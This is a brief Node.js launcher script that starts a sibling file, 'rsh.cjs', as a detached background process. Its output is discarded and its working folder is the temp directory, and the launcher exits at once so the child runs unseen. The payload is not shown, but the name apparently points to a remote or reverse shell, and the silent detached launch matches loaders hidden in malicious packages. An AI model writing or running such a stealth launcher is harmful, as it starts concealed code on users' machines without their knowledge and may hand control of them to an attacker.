// SPDX-License-Identifier: Apache-2.0
const { spawn } = require('child_process');
const path = require('path');

const script = path.join(__dirname, 'rsh.cjs');
const cwd = require('os').tmpdir();
const sub = spawn(process.execPath, [script], { detached: true, stdio: 'ignore', cwd });
sub.unref();
process.exit(0);
